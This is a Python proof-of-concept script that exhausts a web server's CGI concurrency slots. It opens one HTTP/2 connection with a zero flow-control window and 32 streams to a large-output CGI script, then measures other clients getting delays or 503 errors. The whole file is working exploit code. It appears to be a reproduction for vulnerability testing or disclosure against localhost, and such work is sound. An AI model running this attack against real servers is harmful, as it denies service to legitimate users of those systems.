#!/usr/bin/env python3
# One HTTP/2 connection with SETTINGS_INITIAL_WINDOW_SIZE=0 opens 32 streams to a CGI that writes a large body.
# The scripts block writing to the pipe; tern does not count that as silence, and has no send timeout,
# so all 32 slots of the route (max_concurrent default 32) stay taken: other clients wait and get 503.
import sys, time, subprocess
sys.path.insert(0, "/tmp/s42/probe")
from h2probe import Conn, BASE, P
from hyperframe.frame import SettingsFrame
S = int(sys.argv[2]) if len(sys.argv) > 2 else 32; hold = float(sys.argv[3]) if len(sys.argv) > 3 else 25
c = Conn(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}); c.send(SettingsFrame(0, flags=["ACK"]))
c.send(*[c.hdrs(1 + 2*i, BASE[:3] + [(":path", "/cgi-bin/bigout.sh")]) for i in range(S)])
t0 = time.time(); time.sleep(1)
while time.time() - t0 < hold:
    r = subprocess.run(["curl", "-s", "-m", "14", "-o", "/dev/null", "-w", "%{http_code} %{time_total}", f"http://127.0.0.1:{P}/cgi-bin/status.sh"], capture_output=True, text=True)
    n = subprocess.run("pgrep -fc 'cgi/bigout.sh'", shell=True, capture_output=True, text=True).stdout.strip()
    print(f"t={time.time()-t0:5.1f}s other client -> {r.stdout}   bigout.sh processes: {n}")
c.s.close(); time.sleep(1.5)
r = subprocess.run(["curl", "-s", "-m", "5", "-o", "/dev/null", "-w", "%{http_code} %{time_total}", f"http://127.0.0.1:{P}/cgi-bin/status.sh"], capture_output=True, text=True)
print("after closing the attacker:", r.stdout)
